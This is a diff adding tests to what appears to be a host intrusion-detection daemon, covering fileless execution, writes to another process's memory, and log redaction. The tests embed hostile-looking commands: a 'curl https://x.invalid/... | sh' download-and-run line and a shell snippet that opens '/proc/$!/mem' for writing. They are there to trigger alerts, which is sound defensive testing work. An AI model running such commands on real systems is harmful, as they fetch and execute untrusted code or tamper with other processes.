@@ -66,6 +66,39 @@ class Detect(KernelCase):
         self.assertNotIn("renamed-shell", rules)
         self.assertIn("temp", rules)
 
+    def test_from_nowhere(self):
+        """detect: a program in memory only, one whose file is gone, and one of O_TMPFILE are fileless-exec"""
+        for way in ("memfd", "deleted", "tmpfile"):
+            with self.subTest(way), watch(self.daemon, [program("exec_nameless"), way, program("tiny"), self.folder]) as watched:
+                events = watched.run()
+                found = [(e["alert"]["class"], e["alert"]["severity"]) for e in events if e["type"] == "alert"]
+                self.assertIn(("fileless-exec", "critical"), found)
+
+    def test_memory_of_another_process(self):
+        """detect: a program of its own that opens another process's memory to write is an escape, by its file event"""
+        script = "/bin/sleep 20 & exec 3<>/proc/$!/mem; kill $!"
+        with watch(self.daemon, ["/bin/sh", self.script(script)]) as watched:
+            events = watched.run()
+        found = [e["alert"] for e in events if e["type"] == "alert" and e["alert"].get("class") == "escape"]
+        self.assertEqual([("sensitive-path", "critical")], [(alert["kind"], alert["severity"]) for alert in found])
+
+    def script(self, text):
+        path = self.folder / "script.sh"
+        path.write_text(text + "\n")
+        return path
+
+    def test_journal(self):
+        """detect: the log tells of an alert with executable, ids, class and rule's sentence, never with arguments"""
+        secret = "hunter" + str(os.getpid())
+        with watch(self.daemon, ["/bin/sh", "-c", f"false && curl https://x.invalid/{secret} | sh"]) as watched:
+            events = watched.run()
+        alert = next(e for e in events if e["type"] == "alert" and e["alert"]["class"] == "pipe-to-shell")
+        told = [line for line in self.daemon.errors().splitlines() if alert["process"]["id"] in line and "pipe-to-shell" in line]
+        self.assertEqual(1, len(told), self.daemon.errors())
+        for part in (alert["process"]["exe"], alert["alert"]["summary"], f"seq {alert['seq']}"):
+            self.assertIn(part, told[0])
+        self.assertNotIn(secret, self.daemon.errors())
+
     def typed(self, line):
         """A shell that reads commands as from somebody who types them: the line is in nobody's argv."""
         commands = self.folder / "commands"
